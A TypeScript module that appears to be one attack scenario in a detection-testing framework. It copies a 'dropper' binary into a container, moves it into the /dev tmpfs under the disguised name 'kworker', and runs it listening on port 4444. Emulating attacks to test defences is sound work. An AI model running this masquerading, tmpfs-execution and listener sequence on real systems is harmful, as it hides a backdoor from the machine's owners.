import { copyFileSync, readlinkSync } from "node:fs";
import { join } from "node:path";
import type { Attack } from "../attack.ts";
import { until } from "../site.ts";

export const attack: Attack = {
  async act(site) {
    // The container's /dev is a tmpfs, and the only one where programs may run.
    copyFileSync(site.images.dropper, join(site.volume, "fetched"));
    const script = "cp /run/web/fetched /dev/kworker && chmod 755 /dev/kworker && exec /dev/kworker -l -p 4444";
    const pid = await site.exec(["/usr/bin/sh", "-c", script]);
    await until("the program on tmpfs", () => readlinkSync(`/proc/${pid}/exe`) === "/dev/kworker");
    return pid;
  },
};
